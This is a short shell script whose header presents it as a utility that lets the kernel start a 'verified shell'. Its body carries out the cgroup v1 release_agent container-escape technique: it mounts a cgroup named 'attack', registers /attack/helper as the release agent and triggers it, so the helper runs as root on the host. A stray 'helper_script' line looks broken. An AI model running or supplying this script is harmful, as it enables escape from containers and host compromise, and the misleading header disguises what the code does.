# shellcheck shell=sh
#
# release-agent - let the kernel start a verified shell when a control group is empty
#
# SPDX-License-Identifier: MIT

helper_script
mkdir -p /tmp/cgroup
mount -t cgroup -o none,name=attack none /tmp/cgroup
echo /attack/helper >/tmp/cgroup/release_agent
mkdir /tmp/cgroup/child
echo 1 >/tmp/cgroup/child/notify_on_release
sh -c 'echo 0 >/tmp/cgroup/child/cgroup.procs'
sleep 1
rmdir /tmp/cgroup/child
sleep 1
umount /tmp/cgroup
